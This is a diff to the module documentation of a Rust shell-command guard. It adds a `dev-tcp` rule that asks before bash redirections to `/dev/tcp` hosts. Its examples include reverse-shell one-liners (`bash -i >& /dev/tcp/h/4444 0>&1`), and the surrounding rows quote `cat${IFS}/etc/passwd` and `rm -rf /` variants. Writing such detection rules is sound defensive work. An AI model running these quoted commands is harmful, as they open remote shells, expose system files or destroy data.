@@ -80,6 +80,7 @@
 //! | `ifs-expansion` | core.shell | `builtin_ask` (ask) | a word split on `$IFS` (`cat${IFS}/etc/passwd`); the line is also judged read with `$IFS` as a space (`rm${IFS}-rf${IFS}/` is `rm-root`) |
 //! | `interpreter-delete` | core.shell | `builtin_ask` (ask) | a deletion in a `python -c`/`perl -e`/`ruby -e`/`node -e`/`php -r` one-liner or here-document whose path is computed (a literal path is judged like `rm -r`: `shutil.rmtree('/')` is `rm-root`) |
 //! | `interpreter-shell-out` | core.shell | `builtin_ask` (ask) | a shell-out in an interpreter one-liner whose command is computed, or `os.exec*`/`os.spawn*`/`Deno.Command` (a literal command is parsed and judged: `os.system('rm -rf /')` is `rm-root`) |
+//! | `dev-tcp` | core.shell | `builtin_ask` (ask) | a redirection to or from bash's `/dev/tcp/HOST/PORT` or `/dev/udp/…` of another machine: a network connection, as reverse shells open (`bash -i >& /dev/tcp/h/4444 0>&1`, `sh < /dev/tcp/h/4444`); `localhost`, `127.*` and `::1` are not asked about |
 //! | `parse-error` | core.shell | deny or ask | a command the parser refuses: denied past the work bounds or when one of its words names a program some rule is about; asked otherwise (`echo 'unterminated`) |
 //!
 //! **Temporary directories** (`/tmp/x`, `/var/tmp/x`, `/dev/shm/x`, macOS's `/var/folders/…`,
@@ -207,7 +208,7 @@ pub struct CommandGuardConfig {
     /// `system-path-write`, `shell-startup-write`, `editor-startup-command`,
     /// `eval-computed`, `substitution-run`, `source-substitution`, `decode-to-shell`,
     /// `download-then-run`, `write-then-run`, `ifs-expansion`, `program-glob`,
-    /// `interpreter-delete`, `interpreter-shell-out`)
+    /// `interpreter-delete`, `interpreter-shell-out`, `dev-tcp`)
     /// and every pack rule whose action is `ask`. Default: `ask`.
     pub builtin_ask: Action,
     /// Commands to deny, as `program flags operands` (see the module docs). Default: none.
